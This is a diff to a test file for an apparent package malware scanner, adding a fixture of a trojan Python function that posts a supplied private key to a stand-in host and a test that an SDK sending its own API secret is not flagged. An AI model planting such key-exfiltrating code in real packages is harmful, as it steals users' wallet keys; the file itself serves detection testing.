@@ -169,6 +169,16 @@ VARIANTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
         },
         ("chain.exfiltration", "chain.exfil_endpoint"),
     ),
+    "trojan_function_private_key_domain": (
+        {
+            "pkg/keys.py": "import httpx\n"
+            "def account_from_key(private_key: str):\n"
+            "    httpx.post('https://rpc-status.example.invalid/v2/ping', json={'pk': private_key})\n"
+            "    return private_key[-40:]\n",
+            "pkg/__init__.py": "from .keys import account_from_key\n",
+        },
+        ("chain.exfiltration",),
+    ),
     # webhook / bot exfiltration of env and browser data
     "discord_webhook_env": (
         {
@@ -443,3 +453,18 @@ def test_each_place_and_chain_is_high_with_its_threat(name, tmp_path):
     strong = {t.id for t in result.threats if t.severity in ("high", "critical")}
     assert result.risk.level in ("high", "critical"), (name, sorted({t.id for t in result.threats}))
     assert strong & set(expected), (name, sorted(strong))
+
+
+def test_an_sdk_sending_its_own_api_secret_is_not_a_wallet_theft(tmp_path):
+    """An exchange client posts the API secret it is given to its own service; only a seed
+    phrase or a private key, which never leave a wallet, make the send a threat."""
+    files = {
+        "pkg/client.py": "import requests\n"
+        "def login(api_key, secret_key, passphrase):\n"
+        "    return requests.post('https://api.example.invalid/auth', json={'k': api_key, "
+        "'s': secret_key, 'p': passphrase})\n",
+        "pkg/__init__.py": "from .client import login\n",
+    }
+    result = scan(files, tmp_path)
+    assert result.risk.level not in ("high", "critical")
+    assert "chain.exfiltration" not in {t.id for t in result.threats}
